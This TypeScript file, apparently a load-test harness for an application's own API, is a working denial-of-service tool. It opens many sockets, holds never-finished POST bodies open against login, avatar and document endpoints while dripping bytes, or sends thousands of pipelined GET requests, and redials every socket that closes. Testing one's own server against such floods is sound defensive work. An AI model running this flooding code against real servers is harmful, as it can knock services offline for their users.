import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

// A process that floods a server until it is ended: `attacker.ts KIND SOCKETS URL`. Each closed socket is
// dialled again. Every second it prints how many sockets are open, in the format that flood.ts reads.

const [kind = '', sockets = '0', address = ''] = process.argv.slice(2)
const { hostname, port } = new URL(address)
const REDIAL_MS = 250
const DRIP_MS = 500

const post = (path: string, type: string) =>
  `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-type: ${type}\r\ncontent-length: 900000\r\n\r\n`
const KINDS: Record<string, { first: string[]; drip?: string }> = {
  // Bodies that never end, wherever a body is read.
  bodies: {
    first: [
      `${post('/api/auth/login', 'application/json')}{"login":"`,
      `${post('/api/account/avatar', 'application/json')}{"a":"`,
      `${post('/api/claims/00000000-0000-7000-8000-000000000000/documents', 'application/json')}{"a":"`,
    ],
    drip: 'a',
  },
  // Requests without waiting for a reply: twice what is read at once.
  pipelines: { first: ['GET /api/site HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(3_500)] },
}

const { first, drip } = KINDS[kind] ?? { first: [] }
let open = 0

async function keepDialling(n: number): Promise<void> {
  for (;;) {
    await new Promise<void>((closed) => {
      const socket = connect(Number(port), hostname, () => {
        open += 1
        socket.once('close', () => (open -= 1))
        socket.write(first[n % first.length] ?? '')
      })
      const dripping = drip === undefined ? undefined : setInterval(() => socket.write(drip), DRIP_MS)
      socket.on('error', () => {})
      socket.resume().once('close', () => {
        clearInterval(dripping)
        closed()
      })
    })
    await pause(REDIAL_MS)
  }
}

for (let n = 0; n < Number(sockets); n += 1) void keepDialling(n)
setInterval(() => console.log(`open ${open}`), 1_000)
